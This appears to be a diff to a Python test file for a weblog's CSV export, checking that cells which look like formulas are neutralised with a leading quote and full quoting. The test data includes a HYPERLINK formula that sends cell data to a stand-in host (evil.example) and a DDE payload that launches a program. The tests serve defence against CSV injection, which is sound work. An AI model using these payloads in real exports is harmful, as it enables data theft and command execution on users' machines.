@@ -10,7 +10,7 @@ from typing import Any
 
 from twisted.trial import unittest
 from weblog.errors import BadQuery
-from weblog.panelcsv import HEADERS, csv_text, panel_of, rows_of, safe
+from weblog.panelcsv import HEADERS, STEP, csv_steps, csv_text, panel_of, rows_of, safe
 from weblog.queries import answer
 from weblog.question import Question
 from weblog.resources import WeblogPage
@@ -34,18 +34,32 @@ class SafeTests(unittest.TestCase):
 
     def test_formulas(self) -> None:
         """Text that starts like a formula is written after a quote; other cells as they are."""
-        for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HOSTILE):
+        for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HOSTILE, "  =1+1"):
             self.assertEqual(safe(text), "'" + text)
         self.assertEqual([safe(value) for value in ("/a", 5, -5, None, 1.5)],
                          ["/a", 5, -5, "", 1.5])
 
     def test_quoting(self) -> None:
-        """Commas, quotes and line breaks are quoted by the csv module; the header comes
+        """Every cell is quoted (commas, quotes and line breaks within); the header comes
         first."""
         body = csv_text(("resource", "hits"), [['/a,"b"\nc', 2], [HOSTILE, 1]])
-        self.assertEqual(body, b'resource,hits\r\n"/a,""b""\nc",2\r\n'
-                               b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",1\r\n')
+        self.assertEqual(body, b'"resource","hits"\r\n"/a,""b""\nc","2"\r\n'
+                               b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","1"\r\n')
         self.assertEqual(parsed(body)[2], ["'" + HOSTILE, "1"])
+
+    def test_semicolonLocales(self) -> None:
+        """A cell that holds a formula after a C{;} is quoted whole, so that a spreadsheet that
+        splits on C{;} (many locales do) reads it as one cell of text, not a formula."""
+        body = csv_text(("agent", "hits"), [["x;=cmd|' /C calc'!A0", 1]])
+        self.assertEqual(body.split(b"\r\n")[1], b'"x;=cmd|\' /C calc\'!A0","1"')
+
+    def test_inSteps(self) -> None:
+        """A long CSV is written a step of rows at a time, the same bytes as at once."""
+        rows = [[f"/r{n}", n] for n in range(2 * STEP + 1)]
+        pieces: list[bytes] = []
+        steps = list(csv_steps(("resource", "hits"), rows, pieces))
+        self.assertEqual(len(steps), 3)
+        self.assertEqual(b"".join(pieces), csv_text(("resource", "hits"), rows))
 
     def test_panelOf(self) -> None:
         """A missing, repeated or unknown panel is refused, naming the panels."""
